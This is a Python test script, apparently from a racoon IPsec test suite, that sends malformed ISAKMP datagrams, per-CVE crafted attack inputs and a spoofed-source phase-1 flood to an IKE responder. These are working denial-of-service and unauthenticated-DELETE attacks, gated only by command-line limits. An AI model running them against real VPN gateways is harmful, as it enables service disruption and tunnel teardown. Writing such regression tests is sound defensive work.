#!/usr/bin/env python3
"""Hostile ISAKMP datagrams for the netns suite (tests/netns/run.sh).

Struct-based (no scapy), standard library only. Everything it sends is
bounded by count and time. Sub-commands:

  corpus  DST          libreswan crasher datagrams, the zeek malformed captures'
                       UDP payloads, truncated / oversized (65 KB) / garbage
                       datagrams at UDP 500 and 4500 of DST
  cve NAME DST ...     one crafted input per racoon CVE (racoon-setkey.md §7)
  flood DST            half-open phase-1 initiations (Main Mode message 1) from
                       many spoofed source addresses (raw socket, IP_HDRINCL)
  list-cves            the CVE names `cve` knows

Spoofed datagrams (the peer's own address, flood sources) go out through a raw
IPv4 socket with a hand-built IP/UDP header; that needs root, and the suite
only runs it inside its own network namespaces.
"""

import argparse
import ipaddress
import json
import os
import random
import socket
import struct
import sys
import time

TESTDATA = os.environ.get(
    "RACOON_TESTDATA",
    os.path.join(os.path.dirname(os.path.abspath(__file__)), "../../../shared/testdata"),
)

# ---------------------------------------------------------------------------
# ISAKMP encoding (RFC 2408 / 2409)
# ---------------------------------------------------------------------------
NP_NONE, NP_SA, NP_P, NP_T, NP_KE, NP_ID, NP_CERT, NP_CR = 0, 1, 2, 3, 4, 5, 6, 7
NP_HASH, NP_SIG, NP_NONCE, NP_N, NP_D, NP_VID, NP_FRAG = 8, 9, 10, 11, 12, 13, 132
EX_MAIN, EX_AGGR, EX_INFO = 2, 4, 5
FLAG_ENC = 0x01


def header(icky, rcky, np, exch, flags, msgid, length):
    return struct.pack("!8s8sBBBBII", icky, rcky, np, 0x10, exch, flags, msgid, length)


def payload(np, body, length=None):
    ln = 4 + len(body) if length is None else length
    return struct.pack("!BBH", np, 0, ln & 0xFFFF) + body


def message(icky, rcky, exch, payloads, flags=0, msgid=0, length=None):
    """payloads: list of (type, body); chained in order."""
    out = b""
    for i, (_t, body) in enumerate(payloads):
        nxt = payloads[i + 1][0] if i + 1 < len(payloads) else NP_NONE
        out += payload(nxt, body)
    first = payloads[0][0] if payloads else NP_NONE
    total = 28 + len(out) if length is None else length
    return header(icky, rcky, first, exch, flags, msgid, total) + out


def attr_tv(t, v):
    return struct.pack("!HH", 0x8000 | t, v)


def attr_tlv(t, v):
    return struct.pack("!HH", t, len(v)) + v


def transform(num, auth=1, enc=7, keylen=128, hsh=2, group=14, last=True):
    attrs = attr_tv(1, enc) + (attr_tv(14, keylen) if keylen else b"") + attr_tv(2, hsh)
    attrs += attr_tv(3, auth) + attr_tv(4, group) + attr_tv(11, 1) + attr_tlv(12, struct.pack("!I", 3600))
    body = struct.pack("!BBH", num, 1, 0) + attrs
    return struct.pack("!BBH", NP_NONE if last else NP_T, 0, 4 + len(body)) + body


def sa_body(transforms):
    prop_body = struct.pack("!BBBB", 1, 1, 0, len(transforms)) + b"".join(transforms)
    prop = struct.pack("!BBH", NP_NONE, 0, 4 + len(prop_body)) + prop_body
    return struct.pack("!II", 1, 1) + prop


def mm1(icky=None, auth=1, group=14):
    icky = icky or os.urandom(8)
    return message(icky, bytes(8), EX_MAIN, [(NP_SA, sa_body([transform(1, auth=auth, group=group)]))])


def am1(icky=None, group=14, ident=b"a.h3n.example"):
    """Aggressive Mode message 1: SA, KE (modp2048-sized), nonce, ID (fqdn)."""
    icky = icky or os.urandom(8)
    return message(icky, bytes(8), EX_AGGR, [(NP_SA, sa_body([transform(1, group=group)])),
                                            (NP_KE, os.urandom(256)), (NP_NONCE, os.urandom(16)),
                                            (NP_ID, struct.pack("!BBH", 2, 17, 500) + ident)])


def delete_body(protocol, spis, spi_size):
    return struct.pack("!IBBH", 1, protocol, spi_size, len(spis)) + b"".join(spis)


def notify_body(protocol, ntype, spi=b"", data=b""):
    return struct.pack("!IBBH", 1, protocol, len(spi), ntype) + spi + data


# ---------------------------------------------------------------------------
# Sending
# ---------------------------------------------------------------------------
def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


class Raw:
    """Spoofed IPv4/UDP datagrams (root; our own namespaces only)."""

    def __init__(self):
        self.s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)

    def send(self, src, sport, dst, dport, data):
        udp_len = 8 + len(data)
        tot = 20 + udp_len
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, tot, random.getrandbits(16), 0, 64, 17, 0,
                         socket.inet_aton(src), socket.inet_aton(dst))
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        pseudo = socket.inet_aton(src) + socket.inet_aton(dst) + struct.pack("!BBH", 0, 17, udp_len)
        udp = struct.pack("!HHHH", sport, dport, udp_len, 0)
        c = csum(pseudo + udp + data) or 0xFFFF
        udp = struct.pack("!HHHH", sport, dport, udp_len, c)
        self.s.sendto(ip + udp + data, (dst, 0))


class Sender:
    """Plain UDP from an ephemeral port (kernel fragments big datagrams)."""

    def __init__(self, dst, src=None):
        self.dst = dst
        self.s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        if src:
            self.s.bind((src, 0))
        self.sent = 0

    def send(self, port, data, natt_marker=False):
        if natt_marker:
            data = b"\0\0\0\0" + data
        try:
            self.s.sendto(data, (self.dst, port))
            self.sent += 1
        except OSError as e:
            print(f"  send {len(data)} B to {port}: {e}", file=sys.stderr)
        time.sleep(0.002)  # bounded pace: never a tight loop


# ---------------------------------------------------------------------------
# Corpus: libreswan crashers, zeek malformed captures, truncated/oversized/garbage
# ---------------------------------------------------------------------------
def pcap_udp_payloads(path):
    """UDP payloads to/from port 500/4500 of a classic pcap (Ethernet, SLL or raw IP)."""
    out = []
    with open(path, "rb") as f:
        data = f.read()
    if len(data) < 24:
        return out
    magic = data[:4]
    if magic == b"\xd4\xc3\xb2\xa1":
        end = "<"
    elif magic == b"\xa1\xb2\xc3\xd4":
        end = ">"
    else:
        print(f"  {path}: not a classic pcap, skipped", file=sys.stderr)
        return out
    linktype = struct.unpack(end + "I", data[20:24])[0]
    off = 24
    while off + 16 <= len(data):
        _, _, incl, _ = struct.unpack(end + "IIII", data[off:off + 16])
        pkt = data[off + 16: off + 16 + incl]
        off += 16 + incl
        if linktype == 1:  # Ethernet
            if len(pkt) < 14:
                continue
            et = struct.unpack("!H", pkt[12:14])[0]
            p = pkt[14:]
            if et == 0x8100 and len(p) >= 4:
                et = struct.unpack("!H", p[2:4])[0]
                p = p[4:]
            if et != 0x0800:
                continue
        elif linktype == 113:  # Linux SLL
            p = pkt[16:]
        elif linktype in (101, 228):  # raw IPv4
            p = pkt
        else:
            continue
        if len(p) < 20 or p[0] >> 4 != 4 or p[9] != 17:
            continue
        ihl = (p[0] & 15) * 4
        u = p[ihl:]
        if len(u) < 8:
            continue
        sport, dport = struct.unpack("!HH", u[:4])
        if 500 in (sport, dport) or 4500 in (sport, dport):
            body = u[8:]
            if 4500 in (sport, dport) and body[:4] == b"\0\0\0\0":
                body = body[4:]
            out.append(body)
    return out


def corpus_items():
    items = []  # (label, bytes)
    lib = os.path.join(TESTDATA, "libreswan", "fuzzer-ikev1-packets.json")
    with open(lib) as f:
        for p in json.load(f)["packets"]:
            items.append(("libreswan " + p["id"], bytes.fromhex(p["hex"])))
    zeek = os.path.join(TESTDATA, "zeek-spicy-ipsec")
    for name in sorted(os.listdir(zeek)):
        if name.endswith((".pcap", ".cap")):
            for i, b in enumerate(pcap_udp_payloads(os.path.join(zeek, name))):
                items.append((f"zeek {name}#{i}", b))
    rng = random.Random(10)
    base = mm1(icky=b"\x11" * 8)
    for n in (0, 1, 4, 8, 16, 27, 28, 29, 32, 40, len(base) - 1):
        items.append((f"truncated MM1 to {n} B", base[:n]))
    # header lengths that lie: 0, smaller, bigger, huge
    for ln in (0, 27, 28, len(base) + 1, 0xFFFF, 0x7FFFFFFF, 0xFFFFFFFF):
        items.append((f"MM1 header length {ln}", base[:24] + struct.pack("!I", ln) + base[28:]))
    items.append(("oversized 65000 B (valid header)", header(b"\x22" * 8, bytes(8), NP_SA, EX_MAIN, 0, 0, 65000) + bytes(65000 - 28)))
    items.append(("oversized 65507 B garbage", bytes(rng.getrandbits(8) for _ in range(65507))))
    for i in range(40):
        n = rng.choice([1, 3, 28, 100, 500, 1400, 4000])
        items.append((f"garbage #{i} {n} B", bytes(rng.getrandbits(8) for _ in range(n))))
    for i in range(40):  # valid header, random body
        n = rng.choice([4, 40, 300])
        body = bytes(rng.getrandbits(8) for _ in range(n))
        items.append((f"random chain #{i}", header(os.urandom(8), bytes(8), rng.choice([1, 2, 5, 8, 11, 12, 132, 255]),
                                                   rng.choice([1, 2, 4, 5, 6, 32, 255]), rng.getrandbits(8),
                                                   rng.choice([0, rng.getrandbits(32)]), 28 + n) + body))
    return items


def cmd_corpus(a):
    items = corpus_items()
    s = Sender(a.dst)
    for label, b in items:
        s.send(a.port, b)
        s.send(a.natt_port, b, natt_marker=True)
        if a.verbose:
            print(f"  sent {label} ({len(b)} B)")
    # 4500 without the marker: looks like ESP-in-UDP with a random SPI
    for label, b in items[:20]:
        if len(b) >= 8:
            s.send(a.natt_port, b)
    print(f"corpus: {len(items)} inputs, {s.sent} datagrams sent to {a.dst} ports {a.port}/{a.natt_port}")


# ---------------------------------------------------------------------------
# CVEs
# ---------------------------------------------------------------------------
def parse_cookies(c):
    i, r = c.split(":")
    return bytes.fromhex(i), bytes.fromhex(r)


def cve_inputs(name, a):
    """[(label, bytes, spoof?)]: spoof=True means: from the peer's address and port."""
    out = []
    icky, rcky = parse_cookies(a.cookies) if a.cookies else (os.urandom(8), os.urandom(8))
    spis = [struct.pack("!I", int(x, 16)) for x in (a.spis or "").split(",") if x]
    if name == "CVE-2004-0164":  # unauthenticated DELETE / INITIAL-CONTACT with real cookies
        msgid = 0x01020304
        for label, pl in [
            ("DELETE ESP SPIs, no HASH", [(NP_D, delete_body(3, spis, 4))]),
            ("DELETE ISAKMP SA, no HASH", [(NP_D, delete_body(1, [icky + rcky], 16))]),
            ("INITIAL-CONTACT, no HASH", [(NP_N, notify_body(1, 24578, icky + rcky))]),
            ("DELETE with a zero HASH", [(NP_HASH, bytes(20)), (NP_D, delete_body(3, spis, 4))]),
            ("HASH + INITIAL-CONTACT, bogus HASH", [(NP_HASH, os.urandom(20)), (NP_N, notify_body(1, 24578, icky + rcky))]),
        ]:
            out.append((label, message(icky, rcky, EX_INFO, pl, msgid=msgid), True))
            msgid += 1
        # 'encrypted' informational that is random bytes: must fail decryption / HASH
        for i in range(8):
            out.append((f"encrypted garbage informational #{i}",
                        header(icky, rcky, NP_HASH, EX_INFO, FLAG_ENC, 0x0a000000 + i, 28 + 64) + os.urandom(64), True))
        # phase-1 exchange type with the established cookies and garbage encrypted body
        out.append(("MM with established cookies, garbage",
                    header(icky, rcky, NP_ID, EX_MAIN, FLAG_ENC, 0, 28 + 48) + os.urandom(48), True))
    elif name == "CVE-2007-1841":  # crafted DELETE/NOTIFY informationals
        for ntype in (24578, 36136, 36137, 14, 16, 1, 0xFFFF):
            out.append((f"notify {ntype} unauthenticated",
                        message(icky, rcky, EX_INFO, [(NP_N, notify_body(1, ntype, icky + rcky, b"\0\0\0\1"))], msgid=random.getrandbits(32) | 1), True))
        out.append(("DELETE with #SPIs 65535 but none present",
                    message(icky, rcky, EX_INFO, [(NP_D, struct.pack("!IBBH", 1, 3, 4, 0xFFFF))], msgid=7), True))
        out.append(("DELETE spi size 0", message(icky, rcky, EX_INFO, [(NP_D, struct.pack("!IBBH", 1, 3, 0, 1))], msgid=8), True))
        out.append(("NOTIFY spi size 255", message(icky, rcky, EX_INFO, [(NP_N, struct.pack("!IBBH", 1, 3, 255, 24578) + bytes(8))], msgid=9), True))
        out.append(("informational msgid 0 plain DELETE", message(icky, rcky, EX_INFO, [(NP_D, delete_body(3, spis, 4))], msgid=0), True))
    elif name == "CVE-2004-0155":  # bogus SIG: signature payloads that must never authenticate
        c = os.urandom(8)
        out.append(("MM1 proposing RSA-sig to a PSK responder", mm1(c, auth=3), False))
        out.append(("MM 'message 5' in clear with ID+CERT+SIG on fresh cookies",
                    message(c, os.urandom(8), EX_MAIN, [(NP_ID, struct.pack("!BBH", 1, 17, 500) + socket.inet_aton(a.src or "192.0.2.1")),
                                                        (NP_CERT, b"\x04" + os.urandom(300)), (NP_SIG, os.urandom(256))]), False))
        out.append(("SIG in clear with established cookies",
                    message(icky, rcky, EX_MAIN, [(NP_ID, struct.pack("!BBH", 1, 17, 500) + socket.inet_aton(a.src or "192.0.2.1")),
                                                  (NP_SIG, os.urandom(256))]), True))
        out.append(("AM1 with SIG payload", message(os.urandom(8), bytes(8), EX_AGGR,
                                                    [(NP_SA, sa_body([transform(1, auth=3)])), (NP_KE, os.urandom(256)),
                                                     (NP_NONCE, os.urandom(16)), (NP_ID, struct.pack("!BBH", 2, 17, 500) + b"x.example"),
                                                     (NP_SIG, os.urandom(256))]), False))
    elif name == "CVE-2004-0392":  # payload walker loops
        c = os.urandom(8)
        body = sa_body([transform(1)])
        out.append(("payload length 0 with next payload set",
                    header(c, bytes(8), NP_SA, EX_MAIN, 0, 0, 28 + 4 + 4) + struct.pack("!BBH", NP_VID, 0, 0) + struct.pack("!BBH", NP_SA, 0, 0), False))
        out.append(("payload length 3", header(c, bytes(8), NP_SA, EX_MAIN, 0, 0, 28 + 4) + struct.pack("!BBH", NP_NONE, 0, 3), False))
        out.append(("payload RESERVED != 0", header(c, bytes(8), NP_SA, EX_MAIN, 0, 0, 28 + 4 + len(body)) + struct.pack("!BBH", NP_NONE, 0xFF, 4 + len(body)) + body, False))
        out.append(("next payload 255 loop", header(c, bytes(8), NP_VID, EX_MAIN, 0, 0, 28 + 40) + (struct.pack("!BBH", 255, 0, 4)) * 10, False))
        out.append(("transform length 0 inside SA",
                    message(c, bytes(8), EX_MAIN, [(NP_SA, struct.pack("!II", 1, 1) + struct.pack("!BBHBBBB", 0, 0, 12, 1, 1, 0, 1) + struct.pack("!BBH", 0, 0, 0))]), False))
        out.append(("proposal claims 255 transforms", message(c, bytes(8), EX_MAIN,
                                                              [(NP_SA, struct.pack("!II", 1, 1) + struct.pack("!BBHBBBB", 0, 0, 8, 1, 1, 0, 255))]), False))
        out.append(("attribute TLV length 0xFFFF", message(c, bytes(8), EX_MAIN, [(NP_SA, struct.pack("!II", 1, 1) +
                                                                                  struct.pack("!BBHBBBB", 0, 0, 20, 1, 1, 0, 1) +
                                                                                  struct.pack("!BBHBBH", 0, 0, 12, 1, 1, 0) + struct.pack("!HH", 12, 0xFFFF))]), False))
    elif name == "CVE-2004-0403":  # huge length fields
        c = os.urandom(8)
        for ln in (0xFFFFFFFF, 0x80000000, 0x10000000, 65536):
            out.append((f"header length {ln:#x}", header(c, bytes(8), NP_SA, EX_MAIN, 0, 0, ln) + sa_body([transform(1)]), False))
        out.append(("SA payload length 0xFFFF", header(c, bytes(8), NP_SA, EX_MAIN, 0, 0, 28 + 8) + struct.pack("!BBH", 0, 0, 0xFFFF) + bytes(4), False))
    elif name in ("CVE-2005-0398", "CVE-2005-3732"):  # malformed / PROTOS-style aggressive mode
        rng = random.Random(3732)
        sa = (NP_SA, sa_body([transform(1)]))
        good = [sa, (NP_KE, os.urandom(256)), (NP_NONCE, os.urandom(16)), (NP_ID, struct.pack("!BBH", 2, 17, 500) + b"evil.example")]
        for i in range(len(good)):
            c = os.urandom(8)
            pl = good[:i] + good[i + 1:]
            out.append((f"AM1 without payload {good[i][0]}", message(c, bytes(8), EX_AGGR, pl), False))
        for i in range(len(good)):
            pl = list(good)
            pl[i] = (pl[i][0], b"")
            out.append((f"AM1 with empty payload {good[i][0]}", message(os.urandom(8), bytes(8), EX_AGGR, pl), False))
        out.append(("AM1 KE of 1 byte", message(os.urandom(8), bytes(8), EX_AGGR, [sa, (NP_KE, b"\1"), good[2], good[3]]), False))
        out.append(("AM1 ID type 0, no data", message(os.urandom(8), bytes(8), EX_AGGR, [sa, good[1], good[2], (NP_ID, b"\0\0\0\0")]), False))
        out.append(("AM1 nonce 0 B", message(os.urandom(8), bytes(8), EX_AGGR, [sa, good[1], (NP_NONCE, b""), good[3]]), False))
        out.append(("AM1 nonce 300 B", message(os.urandom(8), bytes(8), EX_AGGR, [sa, good[1], (NP_NONCE, os.urandom(300)), good[3]]), False))
        out.append(("AM1 duplicated SA", message(os.urandom(8), bytes(8), EX_AGGR, [sa, sa] + good[1:]), False))
        for i in range(30):  # bit flips of a good AM1
            m = bytearray(message(os.urandom(8), bytes(8), EX_AGGR, good))
            for _ in range(rng.randint(1, 6)):
                m[rng.randrange(len(m))] ^= 1 << rng.randrange(8)
            out.append((f"AM1 bit flips #{i}", bytes(m), False))
        out.append(("AM2-like message on fresh cookies", message(os.urandom(8), os.urandom(8), EX_AGGR, good + [(NP_HASH, os.urandom(20))]), False))
    elif name == "CVE-2008-3651":  # repeated invalid proposals
        for i in range(a.count):
            c = os.urandom(8)
            t = transform(1, enc=rng_choice(i, [0, 99, 65000]), hsh=rng_choice(i, [0, 77]), group=rng_choice(i, [0, 99, 40000]))
            out.append((f"invalid proposal #{i}", message(c, bytes(8), EX_MAIN, [(NP_SA, sa_body([t]))]), False))
    elif name == "CVE-2008-3652":  # orphaned phase 1s: MM1 then silence
        for i in range(a.count):
            out.append((f"MM1 then silence #{i}", mm1(), False))
    elif name == "CVE-2009-1574":  # fragment payload without data
        c = os.urandom(8)
        for lbl, body in [("fragment payload length 4 (no id)", b""),
                          ("fragment, no data, last", struct.pack("!HBB", 1, 1, 1)),
                          ("fragment, no data, not last", struct.pack("!HBB", 2, 1, 0)),
                          ("fragment number 0", struct.pack("!HBB", 3, 0, 1) + b"x"),
                          ("fragment number 255 last only", struct.pack("!HBB", 4, 255, 1) + b"y" * 10)]:
            out.append((lbl, message(c, bytes(8), EX_MAIN, [(NP_FRAG, body)]), False))
        if a.cookies:
            out.append(("empty fragment on the established SA", message(icky, rcky, EX_MAIN, [(NP_FRAG, struct.pack("!HBB", 9, 1, 1))]), True))
    elif name == "CVE-2016-10396":  # worst-case fragment order, retransmitted last fragment
        c = os.urandom(8)
        for fid in range(1, 4):
            n = 250
            for num in range(n, 0, -1):
                out.append((f"frag id {fid} #{num}/{n} reverse", message(c, bytes(8), EX_MAIN,
                                                                        [(NP_FRAG, struct.pack("!HBB", fid, num, 1 if num == n else 0) + os.urandom(64))]), False))
            out.append((f"frag id {fid} last again", message(c, bytes(8), EX_MAIN, [(NP_FRAG, struct.pack("!HBB", fid, n, 1) + os.urandom(64))]), False))
    elif name == "CVE-2015-4047":  # GSS-API auth (65001) with no matching remote
        out.append(("MM1 with auth method GSS-API (65001)", mm1(auth=65001), False))
        out.append(("MM1 with auth method 65001, group 0", message(os.urandom(8), bytes(8), EX_MAIN,
                                                                   [(NP_SA, sa_body([transform(1, auth=65001, group=0)]))]), False))
    elif name == "CVE-2009-1632":  # NAT-T keepalive leak: many keepalives and short junk on 4500
        for i in range(a.count):
            out.append(("keepalive", b"\xff", "natt"))
    else:
        raise SystemExit(f"unknown CVE {name}")
    return out


def rng_choice(i, xs):
    return xs[i % len(xs)]


CVES = ["CVE-2004-0155", "CVE-2004-0164", "CVE-2004-0392", "CVE-2004-0403", "CVE-2005-0398",
        "CVE-2005-3732", "CVE-2007-1841", "CVE-2008-3651", "CVE-2008-3652", "CVE-2009-1574",
        "CVE-2009-1632", "CVE-2015-4047", "CVE-2016-10396"]


def cmd_cve(a):
    inputs = cve_inputs(a.name, a)
    raw = Raw() if a.src else None
    plain = Sender(a.dst)
    n = 0
    for label, b, spoof in inputs:
        if spoof == "natt":
            plain.send(a.natt_port, b)
        elif spoof is True and raw is not None:
            raw.send(a.src, a.port, a.dst, a.port, b)
            time.sleep(0.002)
        else:
            plain.send(a.port, b)
            if len(b) < 2000:
                plain.send(a.natt_port, b, natt_marker=True)
        n += 1
        if a.verbose:
            print(f"  {a.name}: {label} ({len(b)} B)")
    print(f"{a.name}: {n} crafted inputs sent to {a.dst}")


# ---------------------------------------------------------------------------
# Flood
# ---------------------------------------------------------------------------
def cmd_flood(a):
    net = ipaddress.ip_network(a.sources)
    if net.num_addresses == 1:  # one (spoofed) address, e.g. a configured peer's
        hosts = [str(net.network_address)]
    else:
        hosts = [str(net.network_address + 1 + i) for i in range(min(a.n_sources, net.num_addresses - 2))]
    raw = Raw()
    deadline = time.monotonic() + a.seconds
    gap = a.seconds / max(a.count, 1)
    start = time.monotonic()
    sent = 0
    for i in range(a.count):
        if time.monotonic() > deadline + 5:
            break
        src = hosts[i % len(hosts)]
        raw.send(src, 500, a.dst, a.port, am1() if a.aggressive else mm1())
        sent += 1
        target = start + (i + 1) * gap
        d = target - time.monotonic()
        if d > 0:
            time.sleep(d)
    el = time.monotonic() - start
    kind = "Aggressive" if a.aggressive else "Main"
    print(f"flood: {sent} {kind} Mode message-1 datagrams from {len(hosts)} source addresses in {el:.1f} s")


def main():
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)
    c = sub.add_parser("corpus")
    c.add_argument("dst")
    c.add_argument("--port", type=int, default=500)
    c.add_argument("--natt-port", type=int, default=4500)
    c.add_argument("-v", "--verbose", action="store_true")
    v = sub.add_parser("cve")
    v.add_argument("name")
    v.add_argument("dst")
    v.add_argument("--src", help="spoof this peer address (raw socket) for inputs on the established SA")
    v.add_argument("--cookies", help="ICOOKIE:RCOOKIE of the established phase 1 (hex)")
    v.add_argument("--spis", help="comma-separated hex ESP SPIs to name in DELETEs")
    v.add_argument("--port", type=int, default=500)
    v.add_argument("--natt-port", type=int, default=4500)
    v.add_argument("--count", type=int, default=200)
    v.add_argument("-v", "--verbose", action="store_true")
    f = sub.add_parser("flood")
    f.add_argument("dst")
    f.add_argument("--port", type=int, default=500)
    f.add_argument("--sources", default="10.77.0.0/16")
    f.add_argument("--n-sources", type=int, default=1000)
    f.add_argument("--count", type=int, default=5000)
    f.add_argument("--seconds", type=float, default=10.0)
    f.add_argument("--aggressive", action="store_true", help="Aggressive Mode first messages (the responder computes DH for each)")
    sub.add_parser("list-cves")
    a = p.parse_args()
    if a.cmd == "corpus":
        cmd_corpus(a)
    elif a.cmd == "cve":
        cmd_cve(a)
    elif a.cmd == "flood":
        if a.count > 20000 or a.seconds > 60:
            raise SystemExit("flood: bounded to 20000 datagrams and 60 s")
        cmd_flood(a)
    else:
        print("\n".join(CVES))


if __name__ == "__main__":
    main()
